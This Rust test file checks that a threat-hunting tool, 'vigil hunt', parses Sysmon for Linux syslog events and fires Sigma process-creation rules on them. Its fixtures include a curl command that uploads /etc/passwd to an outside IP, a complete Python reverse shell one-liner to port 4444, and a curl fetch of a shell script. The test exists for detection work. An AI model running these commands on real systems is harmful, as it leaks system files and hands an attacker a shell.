//! End-to-end tests of `vigil hunt` on Sysmon for Linux events in a syslog file: each
//! event is one line of Windows event XML after `sysmon:`, and Sigma rules for
//! `product: linux, category: process_creation` match its `CommandLine` and `Image` as
//! they would a Windows Sysmon event's.

mod common;

use common::{corpus, run, texts, vigil, Run};
use serde_json::Value;
use std::path::Path;

/// A syslog line of Sysmon for Linux on `web01`: event `event_id`, record `record_id`,
/// written at `time` (UTC, `HH:MM:SS`), with `data` as its EventData, entities as given.
fn sysmon_line(time: &str, event_id: u32, record_id: u32, data: &[(&str, &str)]) -> String {
    let data: String = data
        .iter()
        .map(|(name, value)| format!(r#"<Data Name="{name}">{value}</Data>"#))
        .collect();
    format!(
        "Nov 23 {time} web01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" \
         Guid=\"{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}\"/><EventID>{event_id}</EventID>\
         <Version>5</Version><Level>4</Level><Task>{event_id}</Task><Opcode>0</Opcode>\
         <Keywords>0x8000000000000000</Keywords>\
         <TimeCreated SystemTime=\"2026-11-23T{time}.250000000Z\"/>\
         <EventRecordID>{record_id}</EventRecordID><Correlation/>\
         <Execution ProcessID=\"812\" ThreadID=\"812\"/>\
         <Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer>\
         <Security UserId=\"0\"/></System><EventData>{data}</EventData></Event>"
    )
}

/// A process creation (EventID 1) of `image` running `command_line` (XML-escaped) as root.
fn process_line(time: &str, record_id: u32, image: &str, command_line: &str) -> String {
    sysmon_line(
        time,
        1,
        record_id,
        &[
            ("RuleName", "-"),
            ("UtcTime", &format!("2026-11-23 {time}.250")),
            ("ProcessGuid", "{4a1f6c2e-0b7d-6571-6d3a-9f2c00000000}"),
            ("ProcessId", "4242"),
            ("Image", image),
            ("FileVersion", "-"),
            ("CommandLine", command_line),
            ("CurrentDirectory", "/tmp"),
            ("User", "root"),
            ("LogonId", "0"),
            ("ParentProcessId", "4200"),
            ("ParentImage", "/usr/bin/bash"),
            ("ParentCommandLine", "bash"),
            ("ParentUser", "root"),
        ],
    )
}

fn write_lines(path: &Path, lines: &[String]) {
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(path, text).expect("writing the syslog file");
}

fn hunt(input: &Path, rules: &[&Path]) -> Run {
    let mut command = vigil();
    command.arg("hunt").arg(input).arg("--rules");
    command.args(rules);
    command.args(["--no-builtin-rules", "--format", "jsonl", "-q"]);
    run(&mut command)
}

const CURL_RULE: &str = "\
title: Curl fetches over HTTP (test)
id: 0f6b1d2e-3c4a-4b5d-8e6f-7a8b9c0d1e2f
status: test
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'curl -s http'
    condition: selection
level: high
";

/// The same selection for Windows: Linux Sysmon events must not reach it.
const WINDOWS_RULE: &str = "\
title: Curl fetches over HTTP on Windows (test)
id: 1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d
status: test
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'curl -s http'
    condition: selection
level: high
";

#[test]
fn linux_process_creation_rule_fires_on_a_sysmon_syslog_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).expect("rules dir");
    std::fs::write(rules.join("curl.yml"), CURL_RULE).expect("writing a rule");
    std::fs::write(rules.join("curl_windows.yml"), WINDOWS_RULE).expect("writing a rule");

    let curl = process_line(
        "09:15:02",
        4711,
        "/usr/bin/curl",
        "curl -s http://203.0.113.9/x.sh?a=1&amp;b=&quot;2&quot;",
    );
    let cut =
        process_line("09:15:03", 4712, "/usr/bin/curl", "curl -s http://x/")[..700].to_owned();
    let lines = [
        process_line("09:15:01", 4710, "/usr/bin/ls", "ls -la /tmp"),
        curl,
        // Cut short by a syslog size limit: kept as a plain message, not reported, no hit.
        cut,
        sysmon_line(
            "09:15:04",
            3,
            4713,
            &[
                ("Image", "/usr/bin/curl"),
                ("DestinationIp", "203.0.113.9"),
                ("DestinationPort", "80"),
            ],
        ),
        sysmon_line(
            "09:15:05",
            11,
            4714,
            &[
                ("Image", "/usr/bin/curl"),
                ("TargetFilename", "/tmp/x.sh"),
            ],
        ),
        "Nov 23 09:15:06 web01 sshd[900]: Accepted publickey for ops from 198.51.100.4 port 50022 ssh2".into(),
    ];
    let input = dir.path().join("syslog");
    write_lines(&input, &lines);

    let run = hunt(&input, &[&rules]);
    run.expect_code(0);
    let detections = run.jsonl();
    assert_eq!(
        texts(&detections, "rule_title"),
        ["Curl fetches over HTTP (test)"],
        "{}",
        run.stdout
    );
    let hit = &detections[0];
    assert_eq!(hit["computer"], "web01");
    assert_eq!(hit["channel"], "Linux-Sysmon/Operational");
    assert_eq!(hit["event_id"], 1);
    assert_eq!(hit["record_id"], 4711);
    assert_eq!(hit["timestamp"], "2026-11-23T09:15:02.250Z");
    let event = &hit["event"];
    assert_eq!(event["program"], "sysmon");
    assert_eq!(event["host"], "web01");
    assert_eq!(
        event["CommandLine"],
        r#"curl -s http://203.0.113.9/x.sh?a=1&b="2""#
    );
    assert_eq!(event["Image"], "/usr/bin/curl");
    assert_eq!(event["ParentImage"], "/usr/bin/bash");
    assert_eq!(event["User"], "root");
}

/// SigmaHQ's own Linux rules, as shipped in the corpus.
#[test]
fn sigmahq_linux_process_creation_rules_fire() {
    let Some(corpus) = corpus() else { return };
    let dir = corpus.join("sigma/rules/linux/process_creation");
    let upload = dir.join("proc_creation_lnx_susp_curl_fileupload.yml");
    let python = dir.join("proc_creation_lnx_python_reverse_shell.yml");
    if !upload.is_file() || !python.is_file() {
        println!("skipped: corpus has no curl upload / python reverse shell rule");
        return;
    }
    let scratch = tempfile::tempdir().expect("tempdir");
    let input = scratch.path().join("syslog");
    write_lines(
        &input,
        &[
            process_line(
                "09:20:00",
                5001,
                "/usr/bin/curl",
                "curl -s --data @/etc/passwd http://203.0.113.9/u?k=1&amp;v=2",
            ),
            // SigmaHQ filters uploads to localhost out.
            process_line(
                "09:20:01",
                5002,
                "/usr/bin/curl",
                "curl --data x=1 http://localhost:8080/health",
            ),
            process_line(
                "09:20:02",
                5003,
                "/usr/bin/python3.11",
                "python3 -c &quot;import socket,os,pty;s=socket.socket();\
                 s.connect((&apos;203.0.113.9&apos;,4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];\
                 pty.spawn(&apos;/bin/sh&apos;)&quot;",
            ),
        ],
    );
    let run = hunt(&input, &[&upload, &python]);
    run.expect_code(0);
    let detections = run.jsonl();
    let mut hits: Vec<(i64, &str)> = detections
        .iter()
        .map(|d| {
            (
                d["record_id"].as_i64().unwrap_or(-1),
                d["rule_id"].as_str().unwrap_or(""),
            )
        })
        .collect();
    hits.sort();
    assert_eq!(
        hits,
        [
            (5001, "00b90cc1-17ec-402c-96ad-3a8117d7a582"),
            (5003, "32e62bc7-3de0-4bb1-90af-532978fe42c0"),
        ],
        "{}",
        run.stdout
    );
    let python_hit = detections
        .iter()
        .find(|d| d["record_id"] == 5003)
        .map(|d| &d["event"]["CommandLine"]);
    assert!(
        python_hit
            .and_then(Value::as_str)
            .is_some_and(|c| c.contains("s.connect(('203.0.113.9',4444))")),
        "entities are decoded: {python_hit:?}"
    );
}
